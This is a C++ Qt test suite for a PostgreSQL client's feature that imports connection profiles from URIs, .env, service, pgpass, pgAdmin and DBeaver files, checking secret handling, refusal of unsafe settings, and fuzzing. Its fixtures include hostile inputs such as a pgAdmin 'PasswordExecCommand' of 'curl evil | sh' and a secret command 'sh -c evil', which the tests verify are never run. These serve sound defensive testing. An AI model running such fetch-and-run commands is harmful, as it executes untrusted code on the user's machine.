// SPDX-FileCopyrightText: The Howdah developers
// SPDX-License-Identifier: GPL-3.0-or-later
// What other programs keep, as profiles.
#include "connection/profile/profileimport.h"

#include <QFile>
#include <QRandomGenerator>
#include <QTemporaryDir>
#include <QTest>

using namespace Qt::StringLiterals;
using namespace howdah;
using namespace howdah::connection;

namespace {

ProfileImport read(ProfileFormat format, const QByteArray &content, const QString &origin = u"/work/shop/.env"_s)
{
    const Result<ProfileImport> import = importProfiles(format, content, origin);
    if (!import)
        qWarning("%s", qPrintable(describe(import.error())));
    return import.value_or(ProfileImport());
}

QString notesOf(const ProfileImport &import)
{
    QStringList lines;
    for (const ImportNote &note : import.notes)
        lines << note.place + u": "_s + note.why;
    return lines.join(u'\n');
}

// keyword=value, in their order, for comparing at a glance.
QString targetOf(const Profile &profile)
{
    QStringList parts;
    for (const auto &[key, value] : profile.target.values.asKeyValueRange())
        parts << key + u'=' + value;
    return parts.join(u' ');
}

} // namespace

class TestProfileImport final : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void uris();
    void uriSecretsAreNotQuoted();
    void dotEnvOfTheSeed();
    void dotEnvSpelling_data();
    void dotEnvSpelling();
    void dotEnvTls();
    void dotEnvPool();
    void dotEnvUrl();
    void refusesSynchronize_data();
    void refusesSynchronize();
    void dotEnvOfTheEnvironment();
    void serviceFile();
    void passFile();
    void pgAdmin();
    void dBeaver();
    void own();
    void runsNoProgramOfAFile();
    void guesses_data();
    void guesses();
    void refusesWhatCannotBeRead_data();
    void refusesWhatCannotBeRead();
    void survivesHostileFiles();
    void plans();
    void exportsAreReadAgain();
    void exportsHoldNoSecret();
};

// With the fields that are left out until the operator agrees to them, which `keys` names all.
static Profile agreedTo(FoundProfile found, const QStringList &keys)
{
    QStringList leftOut;
    for (const Detour &detour : found.leftOut)
        leftOut << detour.key;
    if (leftOut != keys || !agreeTo(found, keys) || !found.leftOut.empty())
        qWarning("left out: %s", qPrintable(leftOut.join(u' ')));
    return found.profile;
}

void TestProfileImport::uris()
{
    const ProfileImport import = read(ProfileFormat::Uri, R"(
# a comment
postgresql://app:geheim@db1:5433,db2:5434/orders?target_session_attrs=standby&sslmode=verify-full&connect_timeout=3
host=/run/postgresql dbname='my db' user=me
postgresql://[::1]/x
nonsense
postgresql://h/d?replication=database
)");
    QCOMPARE(import.profiles.size(), 4U);
    QCOMPARE(
        targetOf(import.profiles[0].profile),
        u"connect_timeout=3 dbname=orders host=db1,db2 port=5433,5434 sslmode=verify-full target_session_attrs=standby "
        "user=app"_s);
    QCOMPARE(import.profiles[0].password, u"geheim"_s);
    QCOMPARE(targetOf(import.profiles[1].profile), u"dbname=my db host=/run/postgresql user=me"_s);
    QCOMPARE(targetOf(import.profiles[2].profile), u"dbname=x host=::1"_s);
    QVERIFY2(notesOf(import).contains("line 6:"_L1), qPrintable(notesOf(import)));
    QVERIFY2(notesOf(import).contains("replication"_L1), qPrintable(notesOf(import)));
}

// Passwords that should have been percent-encoded end up in other places of a URI.
void TestProfileImport::uriSecretsAreNotQuoted()
{
    for (const char *uri :
         {"postgresql://u:ge/heim4711@h/d", "postgresql://u:heim4711%zz@h/d", "postgresql://u:/heim4711@h/d",
          "host=h password=ge heim4711", "host=h password='heim4711", "postgres://u:heim4711/d"}) {
        const ProfileImport import = read(ProfileFormat::Uri, uri);
        QVERIFY2(!notesOf(import).contains("heim4711"_L1), qPrintable(notesOf(import)));
        for (const FoundProfile &found : import.profiles)
            QVERIFY2(!targetOf(found.profile).contains("heim4711"_L1), uri);
    }
}

void TestProfileImport::dotEnvOfTheSeed()
{
    const ProfileImport import = read(ProfileFormat::DotEnv, R"(# Database Connection
DATABASE_HOST=localhost
DATABASE_PORT=5432
DATABASE_NAME=deepref
DATABASE_USER=deepref
DATABASE_PASSWORD=secure_password

# Critical Settings
DATABASE_SYNCHRONIZE=false        # NEVER true
DATABASE_SSL=true                 # Production
DATABASE_MIGRATIONS_RUN=true      # Auto-run

# Performance
DATABASE_POOL_MAX=18
DATABASE_POOL_MIN=4

# Debugging
DATABASE_LOGGING=true            # true for dev
JWT_SECRET=another
)");
    QCOMPARE(import.profiles.size(), 1U);
    const FoundProfile &found = import.profiles[0];
    QCOMPARE(targetOf(found.profile), u"dbname=deepref host=localhost port=5432 sslmode=require user=deepref"_s);
    QCOMPARE(found.password, u"secure_password"_s);
    QCOMPARE(found.profile.pool, (PoolLimits{4, 18}));
    QVERIFY(found.profile.logStatements);
    QVERIFY(found.profile.offerMigrations);
    QCOMPARE(found.profile.group, u"shop"_s);
    QCOMPARE(found.profile.secret, SecretSource::Keychain);
    // What was taken otherwise than it stood there is said, and what is not ours is not touched.
    QVERIFY(notesOf(import).contains("DATABASE_SSL"_L1));
    QVERIFY(notesOf(import).contains("DATABASE_MIGRATIONS_RUN"_L1));
    QVERIFY(!notesOf(import).contains("JWT_SECRET"_L1));
    QVERIFY(!notesOf(import).contains("secure_password"_L1));
}

void TestProfileImport::dotEnvSpelling_data()
{
    QTest::addColumn<QByteArray>("line");
    QTest::addColumn<QString>("password");
    QTest::newRow("plain") << QByteArray("DATABASE_PASSWORD=abc") << u"abc"_s;
    QTest::newRow("blanks") << QByteArray("  DATABASE_PASSWORD = abc  ") << u"abc"_s;
    QTest::newRow("exported") << QByteArray("export DATABASE_PASSWORD=abc") << u"abc"_s;
    QTest::newRow("dollar is a dollar") << QByteArray("DATABASE_PASSWORD=a$b${c}") << u"a$b${c}"_s;
    QTest::newRow("comment") << QByteArray("DATABASE_PASSWORD=abc # no") << u"abc"_s;
    QTest::newRow("cut at the hash") << QByteArray("DATABASE_PASSWORD=abc#def") << u"abc"_s;
    QTest::newRow("quoted hash") << QByteArray("DATABASE_PASSWORD='abc#def' # no") << u"abc#def"_s;
    QTest::newRow("double") << QByteArray("DATABASE_PASSWORD=\"a b\\nc\"") << u"a b\nc"_s;
    QTest::newRow("single keeps backslashes") << QByteArray("DATABASE_PASSWORD='a\\nb'") << u"a\\nb"_s;
    QTest::newRow("backtick") << QByteArray("DATABASE_PASSWORD=`it's \"it\"`") << u"it's \"it\""_s;
    QTest::newRow("equals") << QByteArray("DATABASE_PASSWORD=a=b==") << u"a=b=="_s;
    QTest::newRow("last counts") << QByteArray("DATABASE_PASSWORD=a\nDATABASE_PASSWORD=b") << u"b"_s;
    QTest::newRow("crlf") << QByteArray("DATABASE_PASSWORD=abc\r\nX=1\r\n") << u"abc"_s;
    QTest::newRow("over lines") << QByteArray("DATABASE_PASSWORD='a\nb'\n") << u"a\nb"_s;
    QTest::newRow("open quote") << QByteArray("DATABASE_PASSWORD='abc") << u"'abc"_s;
    QTest::newRow("commented out") << QByteArray("#DATABASE_PASSWORD=abc") << QString();
}

void TestProfileImport::dotEnvSpelling()
{
    QFETCH(const QByteArray, line);
    QFETCH(const QString, password);
    const ProfileImport import = read(ProfileFormat::DotEnv, "DATABASE_HOST=h\n" + line + "\nDATABASE_NAME=after\n");
    QCOMPARE(import.profiles.size(), 1U);
    QCOMPARE(import.profiles[0].password, password);
    const bool swallowed = line.endsWith("'abc"); // an open quote is none, for dotenv as well
    QVERIFY(swallowed || import.profiles[0].profile.target.value(u"dbname"_s) == "after"_L1);
    QCOMPARE(notesOf(import).contains("#"_L1), line == "DATABASE_PASSWORD=abc#def");
}

void TestProfileImport::dotEnvTls()
{
    const auto modeOf = [](const QByteArray &lines) {
        const ProfileImport import = read(ProfileFormat::DotEnv, "DATABASE_HOST=h\n" + lines);
        return import.profiles.empty() ? u"none"_s : import.profiles[0].profile.target.value(u"sslmode"_s);
    };
    QCOMPARE(modeOf("DATABASE_SSL=false"), QString());
    QCOMPARE(modeOf("DATABASE_SSL=true"), u"require"_s);
    QCOMPARE(modeOf("DATABASE_SSL=true\nDATABASE_SSL_CA=/ca.pem"), u"verify-full"_s);
    QCOMPARE(
        modeOf("DATABASE_SSL=true\nDATABASE_SSL_CA=/ca.pem\nDATABASE_SSL_REJECT_UNAUTHORIZED=false"), u"require"_s);
    QCOMPARE(modeOf("DATABASE_SSL=true\nDATABASE_SSLMODE=verify-ca"), u"verify-ca"_s);
    QCOMPARE(modeOf("DATABASE_SSL=perhaps"), u"require"_s); // rather too much than too little
    const ProfileImport inline_ = read(
        ProfileFormat::DotEnv,
        "DATABASE_HOST=h\nDATABASE_SSL=true\nDATABASE_SSL_CA=\"-----BEGIN CERTIFICATE-----\\nMII\"");
    QCOMPARE(inline_.profiles[0].profile.target.value(u"sslmode"_s), u"require"_s);
    QVERIFY(notesOf(inline_).contains("sslrootcert"_L1));
}

void TestProfileImport::dotEnvPool()
{
    const auto poolOf = [](const QByteArray &lines, const char *note) {
        const ProfileImport import = read(ProfileFormat::DotEnv, "DATABASE_HOST=h\n" + lines);
        if (!notesOf(import).contains(QLatin1StringView(note)))
            qWarning("%s", qPrintable(notesOf(import)));
        return import.profiles.at(0).profile.pool;
    };
    QCOMPARE(poolOf("", ""), (PoolLimits{5, 20}));
    QCOMPARE(poolOf("DATABASE_POOL_MIN=1", ""), (PoolLimits{1, 20}));
    QCOMPARE(poolOf("DATABASE_POOL_MIN=30\nDATABASE_POOL_MAX=10", "DATABASE_POOL_MIN, "), (PoolLimits{5, 20}));
    QCOMPARE(poolOf("DATABASE_POOL_MAX=lots", "DATABASE_POOL_MAX: not a whole number"), (PoolLimits{5, 20}));
    QCOMPARE(poolOf("DATABASE_POOL_MAX=100000", "DATABASE_POOL_M"), (PoolLimits{5, 20}));
}

void TestProfileImport::dotEnvUrl()
{
    const ProfileImport import =
        read(ProfileFormat::DotEnv, "DATABASE_URL=\"postgresql://app:pw@db:6432/shop?sslmode=require\"\n");
    QCOMPARE(import.profiles.size(), 1U);
    QCOMPARE(targetOf(import.profiles[0].profile), u"dbname=shop host=db port=6432 sslmode=require user=app"_s);
    QCOMPARE(import.profiles[0].password, u"pw"_s);
}

void TestProfileImport::refusesSynchronize_data()
{
    QTest::addColumn<QByteArray>("value");
    QTest::addColumn<bool>("refused");
    for (const char *value : {"true", "TRUE", "1", "yes", "'true'", "true # NEVER", "whatever"})
        QTest::newRow(value) << QByteArray(value) << true;
    for (const char *value : {"false", "False", "0", "no", "", "false # NEVER true"})
        QTest::newRow(*value ? value : "empty") << QByteArray(value) << false;
}

void TestProfileImport::refusesSynchronize()
{
    QFETCH(const QByteArray, value);
    QFETCH(const bool, refused);
    const auto import = importProfiles(
        ProfileFormat::DotEnv, "DATABASE_HOST=h\nDATABASE_PASSWORD=geheim\nDATABASE_SYNCHRONIZE=" + value, u".env"_s);
    QCOMPARE(!import, refused);
    if (refused) {
        QCOMPARE(kindName(import.error().kind), u"usage"_s);
        QVERIFY(import.error().message.contains("line 3"_L1));
        QVERIFY(import.error().message.contains("drops columns"_L1)); // the reason
        QVERIFY(!import.error().hint.isEmpty());
    }
}

void TestProfileImport::dotEnvOfTheEnvironment()
{
    const ProfileImport production = read(
        ProfileFormat::DotEnv, "NODE_ENV=production\nDATABASE_HOST=h\nDATABASE_NAME=shop", u"/srv/x/.env.production"_s);
    QCOMPARE(production.profiles[0].profile.environment, Environment::Production);
    QCOMPARE(production.profiles[0].profile.name, u"shop production"_s);
    QCOMPARE(
        read(ProfileFormat::DotEnv, "NODE_ENV=test\nDATABASE_HOST=h").profiles[0].profile.environment,
        Environment::Staging);
    QVERIFY(!importProfiles(ProfileFormat::DotEnv, "PORT=3000\n", u".env"_s));
}

void TestProfileImport::serviceFile()
{
    const ProfileImport import = read(ProfileFormat::ServiceFile, R"(stray=1
# comment
[office]
host=db.example.org
port=5433
user=me
password=geheim
sslmode=verify-full
[ldap one]
ldap://directory/x?y?sub
[broken]
host = x
hots=y
service=office
dbname=z
[
[empty]
)");
    QCOMPARE(import.profiles.size(), 2U);
    QCOMPARE(import.profiles[0].profile.name, u"office"_s);
    QCOMPARE(targetOf(import.profiles[0].profile), u"host=db.example.org port=5433 sslmode=verify-full user=me"_s);
    QCOMPARE(import.profiles[0].password, u"geheim"_s);
    QCOMPARE(targetOf(import.profiles[1].profile), u"dbname=z"_s);
    for (const char *place : {"line 1:", "line 10:", "line 12:", "line 13:", "line 14:", "line 16:", "[empty]:"})
        QVERIFY2(notesOf(import).contains(QLatin1StringView(place)), place);
    QVERIFY(!notesOf(import).contains("geheim"_L1));
}

void TestProfileImport::passFile()
{
    const ProfileImport import = read(
        ProfileFormat::PassFile,
        "# c\ndb:5432:shop:me:geheim\n*:*:*:me:x\ndb2:*:*:*:a\\:b\nfe80\\:\\:1:5432:d:u:p\nbroken\n", u"/srv/pass"_s);
    QCOMPARE(import.profiles.size(), 3U);
    QCOMPARE(targetOf(import.profiles[0].profile), u"dbname=shop host=db passfile=/srv/pass port=5432 user=me"_s);
    QCOMPARE(targetOf(import.profiles[1].profile), u"host=db2 passfile=/srv/pass"_s);
    QCOMPARE(import.profiles[2].profile.target.value(u"host"_s), u"fe80::1"_s);
    for (const FoundProfile &found : import.profiles) {
        QCOMPARE(found.profile.secret, SecretSource::PassFile);
        QVERIFY(found.password.isEmpty()); // it stays where it is
    }
    QVERIFY(notesOf(import).contains("line 3:"_L1) && notesOf(import).contains("line 6:"_L1));
    // The one that libpq reads by itself is not named; one that others may read is warned of.
    QTemporaryDir home;
    const QByteArray before = qgetenv("HOME");
    qputenv("HOME", home.path().toUtf8());
    const QString path = home.filePath(u".pgpass"_s);
    QFile file(path);
    QVERIFY(file.open(QIODevice::WriteOnly));
    file.close();
    QVERIFY(file.setPermissions(QFile::ReadOwner | QFile::ReadOther));
    const ProfileImport usual = read(ProfileFormat::PassFile, "db:1:d:u:p", path);
    qputenv("HOME", before);
    QVERIFY(!usual.profiles[0].profile.target.values.contains(u"passfile"_s));
    QVERIFY(notesOf(usual).contains("chmod 600"_L1));
}

void TestProfileImport::pgAdmin()
{
    const ProfileImport import = read(ProfileFormat::PgAdmin, R"({"Servers": {
      "1": {"Name": "Main", "Group": "Servers", "Host": "db.example.org", "Port": 5433, "MaintenanceDB": "postgres",
            "Username": "admin", "BgColor": "#FF00aa", "Role": "owner", "PasswordExecCommand": "curl evil | sh",
            "ConnectionParameters": {"sslmode": "verify-full", "connect_timeout": 12, "sslrootcert": "/ca.pem",
                                     "sslcert": "<STORAGE_DIR>/me.crt", "passfile": "/p"},
            "UseSSHTunnel": 1, "TunnelHost": "bastion", "TunnelPort": "22", "TunnelUsername": "me",
            "TunnelIdentityFile": "/id", "TunnelPassword": "geheim", "TunnelAuthentication": 0},
      "2": {"Name": "Old", "Group": "G", "Host": "10.0.0.1", "Port": 5432, "Username": "u", "SSLMode": "require",
            "UseSSHTunnel": 0, "TunnelHost": "unused"},
      "3": {"Name": "Bad", "Host": "h", "Port": 5432, "ConnectionParameters": {"sslmode": "maybe", "nonsense": "x"}},
      "4": "text", "5": {"Name": "Nowhere"}}})");
    QCOMPARE(import.profiles.size(), 3U);
    const Profile &first = import.profiles[0].profile;
    QCOMPARE(first.name, u"Main"_s);
    QCOMPARE(
        targetOf(first),
        u"connect_timeout=12 dbname=postgres host=db.example.org port=5433 sslmode=verify-full user=admin"_s);
    QCOMPARE(
        targetOf(agreedTo(import.profiles[0], {u"passfile"_s, u"sslrootcert"_s})),
        u"connect_timeout=12 dbname=postgres host=db.example.org passfile=/p port=5433 "
        "sslmode=verify-full sslrootcert=/ca.pem user=admin"_s);
    QCOMPARE(first.ssh, (SshTunnel{true, u"bastion"_s, 22, u"me"_s, u"/id"_s, {}}));
    QCOMPARE(first.colour, u"#ff00aa"_s);
    QCOMPARE(first.secret, SecretSource::PassFile);
    QCOMPARE(import.profiles[1].profile.ssh, SshTunnel());
    QCOMPARE(import.profiles[1].profile.target.value(u"sslmode"_s), u"require"_s);
    QCOMPARE(targetOf(import.profiles[2].profile), u"host=h port=5432"_s);
    for (const char *what :
         {"1: PasswordExecCommand", "1: Role", "1: sslcert", "1: TunnelPassword", "3: sslmode", "3: nonsense",
          "server 4", "server 5"})
        QVERIFY2(notesOf(import).contains(QLatin1StringView(what)), what);
    QVERIFY(!notesOf(import).contains("geheim"_L1) && !notesOf(import).contains("evil"_L1));
}

void TestProfileImport::dBeaver()
{
    const ProfileImport import = read(ProfileFormat::DBeaver, R"({"folders": {"Live": {}}, "connections": {
      "postgres-jdbc-1": {"provider": "postgresql", "driver": "postgres-jdbc", "name": "Shop", "folder": "Live",
        "save-password": true, "configuration": {"host": "db", "port": "5433", "database": "shop",
          "url": "jdbc:postgresql://db:5433/shop", "type": "prod", "color": "255,0,16", "auth-model": "native",
          "properties": {"connectTimeout": "20", "currentSchema": "shop", "loggerLevel": "x"},
          "handlers": {"ssh_tunnel": {"type": "TUNNEL", "enabled": true, "properties": {"host": "bastion", "port": 22,
              "authType": "PUBLIC_KEY", "keyPath": "/id", "user": "me", "jumpServer0.host": "jump",
              "jumpServer0.user": "j", "jumpServer0.port": 2200}},
            "postgre_ssl": {"enabled": true, "properties": {"sslMode": "verify-ca", "ssl.ca.cert": "/ca.pem"}}}}},
      "mysql-1": {"provider": "mysql", "name": "Other", "configuration": {}},
      "postgres-jdbc-2": {"provider": "postgresql", "name": "Url", "configuration": {"type": "test",
          "url": "jdbc:postgresql://a:1,b:2/d?user=u&password=geheim&targetServerType=preferSecondary",
          "auth-model": "postgres_pgpass"}},
      "postgres-jdbc-3": {"provider": "postgresql", "name": "Off", "configuration": {"host": "h", "user": "u",
          "handlers": {"ssh_tunnel": {"enabled": false, "properties": {"host": "bastion"}}}}}}})");
    QCOMPARE(import.profiles.size(), 3U);
    const Profile &first = import.profiles[0].profile;
    QCOMPARE(targetOf(first), u"connect_timeout=20 dbname=shop host=db port=5433 sslmode=verify-ca"_s);
    QCOMPARE(
        targetOf(agreedTo(import.profiles[0], {u"sslrootcert"_s})),
        u"connect_timeout=20 dbname=shop host=db port=5433 sslmode=verify-ca sslrootcert=/ca.pem"_s);
    QCOMPARE(first.environment, Environment::Production);
    QCOMPARE(first.group, u"Live"_s);
    QCOMPARE(first.colour, u"#ff0010"_s);
    QCOMPARE(first.searchPath, u"shop"_s);
    QCOMPARE(first.ssh, (SshTunnel{true, u"bastion"_s, 22, u"me"_s, u"/id"_s, {u"j@jump:2200"_s}}));
    const FoundProfile &second = import.profiles[1];
    QCOMPARE(targetOf(second.profile), u"dbname=d host=a,b port=1,2 target_session_attrs=prefer-standby user=u"_s);
    QCOMPARE(second.profile.environment, Environment::Staging);
    QCOMPARE(second.profile.secret, SecretSource::PassFile);
    QCOMPARE(second.password, u"geheim"_s);
    QCOMPARE(import.profiles[2].profile.ssh, SshTunnel());
    for (const char *what : {"Shop: user", "Shop: loggerLevel", "Other: provider"})
        QVERIFY2(notesOf(import).contains(QLatin1StringView(what)), what);
}

void TestProfileImport::own()
{
    const ProfileImport import = read(ProfileFormat::Howdah, R"({"format":1,"profiles":[
        {"id":"theirs","name":"a","connection":{"host":"h"},"environment":"production"},
        {"name":"b","connection":{"host":"h","password":"geheim"}}, {"name":"c","connection":{"host":"h"},"pool":7}]})");
    QCOMPARE(import.profiles.size(), 1U);
    QVERIFY(import.profiles[0].profile.id.isEmpty());
    QCOMPARE(import.profiles[0].profile.environment, Environment::Production);
    QCOMPARE(import.notes.size(), 2U);
    QVERIFY(!notesOf(import).contains("geheim"_L1));
}

void TestProfileImport::runsNoProgramOfAFile()
{
    const ProfileImport import = read(ProfileFormat::Howdah, R"({"format":1,"profiles":[
        {"name":"a","connection":{"host":"h"},"secret":{"source":"command","command":["sh","-c","evil"]}},
        {"name":"b","connection":{"host":"h"},"secret":{"source":"keychain","command":["sh"]}}]})");
    QCOMPARE(import.profiles.size(), 2U);
    for (const FoundProfile &found : import.profiles) {
        QVERIFY(found.profile.secret != SecretSource::Command);
        QVERIFY(found.profile.secretCommand.isEmpty());
    }
    QCOMPARE(import.notes.size(), 2U);
}

void TestProfileImport::guesses_data()
{
    QTest::addColumn<QString>("name");
    QTest::addColumn<QByteArray>("content");
    QTest::addColumn<QString>("format");
    QTest::newRow("env") << u".env"_s << QByteArray() << u"dotenv"_s;
    QTest::newRow("env of") << u"/a/.env.production"_s << QByteArray() << u"dotenv"_s;
    QTest::newRow("env by content") << u"settings"_s << QByteArray("# x\nDATABASE_HOST=h") << u"dotenv"_s;
    QTest::newRow("pgpass") << u"/home/me/.pgpass"_s << QByteArray() << u"pgpass"_s;
    QTest::newRow("service") << u".pg_service.conf"_s << QByteArray() << u"service"_s;
    QTest::newRow("service by content") << u"x"_s << QByteArray("# c\n[a]\nhost=h") << u"service"_s;
    QTest::newRow("pgAdmin") << u"x.json"_s << QByteArray(R"({"Servers":{}})") << u"pgadmin"_s;
    QTest::newRow("DBeaver") << u"x.json"_s << QByteArray(R"({"connections":{}})") << u"dbeaver"_s;
    QTest::newRow("own") << u"x.json"_s << QByteArray(R"({"format":1})") << u"howdah"_s;
    QTest::newRow("uri") << u"x"_s << QByteArray("postgres://h/d") << u"uri"_s;
    QTest::newRow("nothing") << u"x"_s << QByteArray("hello") << QString();
}

void TestProfileImport::guesses()
{
    QFETCH(const QString, name);
    QFETCH(const QByteArray, content);
    QFETCH(const QString, format);
    const auto guessed = guessFormat(name, content);
    QCOMPARE(guessed ? formatKey(*guessed) : QString(), format);
    if (guessed)
        QVERIFY(readFormat(format) == guessed);
}

void TestProfileImport::refusesWhatCannotBeRead_data()
{
    QTest::addColumn<QString>("format");
    QTest::addColumn<QByteArray>("content");
    for (const char *format : {"howdah", "pgadmin", "dbeaver"}) {
        const QString key = QString::fromLatin1(format);
        QTest::addRow("%s: empty", format) << key << QByteArray();
        QTest::addRow("%s: cut off", format) << key << QByteArray("{\"Servers\": {\n\"1\": {");
        QTest::addRow("%s: list", format) << key << QByteArray("[]");
        QTest::addRow("%s: other", format) << key << QByteArray("{\"x\": 1}");
        QTest::addRow("%s: wrong types", format)
            << key << QByteArray(R"({"Servers":[],"connections":7,"profiles":{}})");
        QTest::addRow("%s: deep", format) << key << QByteArray(5000, '[');
    }
    for (const char *format : {"uri", "dotenv", "service", "pgpass"}) {
        const QString key = QString::fromLatin1(format);
        QTest::addRow("%s: binary", format) << key << QByteArray("a\0b", 3);
        QTest::addRow("%s: latin1", format) << key << QByteArray("DATABASE_HOST=\xe4");
    }
    QTest::newRow("large") << u"uri"_s << QByteArray((16 << 20) + 1, ' ');
}

void TestProfileImport::refusesWhatCannotBeRead()
{
    QFETCH(const QString, format);
    QFETCH(const QByteArray, content);
    const auto import = importProfiles(*readFormat(format), content, u"file"_s);
    QVERIFY(!import);
    QCOMPARE(kindName(import.error().kind), u"invalid"_s);
}

// Whatever stands in a file: an answer, and only profiles that the store takes.
void TestProfileImport::survivesHostileFiles()
{
    const QByteArray seeds[] = {
        R"({"Servers":{"1":{"Name":"a","Host":"h","Port":5432,"ConnectionParameters":{"sslmode":"require"}}}})",
        R"({"connections":{"a":{"provider":"postgresql","name":"n","configuration":{"url":"jdbc:postgresql://h:1/d"}}}})",
        R"({"format":1,"profiles":[{"name":"a","connection":{"host":"h"},"secret":{"source":"ask"}}]})",
        "[a]\nhost=h\nport=1\n[b]\ndbname=x\n",
        "export DATABASE_HOST='h'\nDATABASE_PORT=\"1\"\nDATABASE_SSL=`true`\n",
        "h:1:d:u:p\\:q\n*:*:*:*:x\n",
        "postgresql://u:p@h:1/d?sslmode=require\nhost=h port=1\n"};
    QRandomGenerator random(4711);
    static constexpr char spice[] = "\0\n\r\t\"'`\\={}[]:,#;%@/$\x80\xff-*";
    for (const QByteArray &seed : seeds) {
        for (int round = 0; round < 300; ++round) {
            QByteArray content = seed;
            for (int change = random.bounded(1, 6); change > 0 && !content.isEmpty(); --change) {
                const int at = int(random.bounded(content.size()));
                switch (random.bounded(3)) {
                case 0:
                    content[at] = spice[random.bounded(int(sizeof spice))];
                    break;
                case 1:
                    content.remove(at, int(random.bounded(1, 8)));
                    break;
                default:
                    content.insert(at, content.mid(int(random.bounded(content.size())), 9));
                }
            }
            for (const char *format : {"howdah", "uri", "dotenv", "service", "pgpass", "pgadmin", "dbeaver"}) {
                const auto import = importProfiles(*readFormat(QString::fromLatin1(format)), content, u"/x/f"_s);
                for (const FoundProfile &found : import.value_or(ProfileImport()).profiles) {
                    QVERIFY(check(found.profile));
                    QVERIFY(found.profile.secret != SecretSource::Command);
                }
            }
        }
    }
}

void TestProfileImport::plans()
{
    const ProfileImport import = read(
        ProfileFormat::Uri, "postgresql://u@a/d\npostgresql://u@b/d\npostgresql://u@b/d\npostgresql://u@c:5432/d\n");
    Profile there;
    there.id = u"1"_s;
    there.name = u"mine"_s;
    for (const auto &[key, value] :
         {std::pair(u"host"_s, u"c"_s), std::pair(u"dbname"_s, u"d"_s), std::pair(u"user"_s, u"u"_s)})
        there.target.set(key, value);
    Profile other;
    other.name = u"U@A/d"_s; // the name that the first would have
    const ImportPlan plan = planImport(import, {privateProfile(), there, other});
    QCOMPARE(plan.present, QStringList{u"mine"_s});
    QStringList names;
    for (const FoundProfile &each : plan.add)
        names << each.profile.name;
    QCOMPARE(names, (QStringList{u"u@a/d (2)"_s, u"u@b/d"_s, u"u@b/d (2)"_s}));
}

static std::vector<Profile> someProfiles()
{
    Profile plain;
    plain.id = u"1"_s;
    plain.name = u"plain"_s;
    plain.target.set(u"host"_s, u"h"_s);
    Profile rich = plain;
    rich.id = u"2"_s;
    rich.name = u"rich [1]"_s;
    rich.environment = Environment::Staging;
    rich.group = u"g"_s;
    rich.target.set(u"sslmode"_s, u"verify-full"_s);
    rich.target.set(u"dbname"_s, u"a b/c?d"_s);
    rich.target.set(u"options"_s, u"-c geqo=off"_s);
    rich.searchPath = u"x, y"_s;
    rich.secret = SecretSource::Command;
    rich.secretCommand = {u"pass"_s, u"geheim"_s};
    return {privateProfile(), plain, rich};
}

void TestProfileImport::exportsAreReadAgain()
{
    const std::vector<Profile> profiles = someProfiles();
    for (const ProfileFormat format : {ProfileFormat::Howdah, ProfileFormat::Uri, ProfileFormat::ServiceFile}) {
        const Result<ProfileExport> made = exportProfiles(format, profiles);
        QVERIFY(made);
        const ProfileImport again = read(format, made->text);
        QVERIFY2(again.notes.empty(), qPrintable(notesOf(again)));
        QCOMPARE(again.profiles.size(), 2U); // the private server is everybody's own
        QCOMPARE(connInfoOf(again.profiles[0].profile), connInfoOf(profiles[1]));
        QCOMPARE(connInfoOf(agreedTo(again.profiles[1], {u"options"_s})), connInfoOf(profiles[2]));
    }
    const ProfileImport own = read(ProfileFormat::Howdah, exportProfiles(ProfileFormat::Howdah, profiles)->text);
    QCOMPARE(own.profiles[1].profile.environment, Environment::Staging);
    QCOMPARE(own.profiles[1].profile.name, u"rich [1]"_s);
    QCOMPARE(kindName(exportProfiles(ProfileFormat::DBeaver, profiles).error().kind), u"usage"_s);
}

void TestProfileImport::exportsHoldNoSecret()
{
    std::vector<Profile> profiles = someProfiles();
    profiles[1].target.set(u"password"_s, u"geheim"_s);
    profiles[1].target.set(u"sslpassword"_s, u"geheim"_s);
    profiles[1].unknown.insert(u"token"_s, u"geheim"_s);
    for (const ProfileFormat format : {ProfileFormat::Howdah, ProfileFormat::Uri, ProfileFormat::ServiceFile}) {
        const Result<ProfileExport> made = exportProfiles(format, profiles);
        QVERIFY(made);
        QVERIFY2(!made->text.contains("geheim"), made->text.constData());
        QVERIFY(!made->notes.empty()); // and what is left out is said
    }
}

QTEST_GUILESS_MAIN(TestProfileImport)
#include "tst_profileimport.moc"
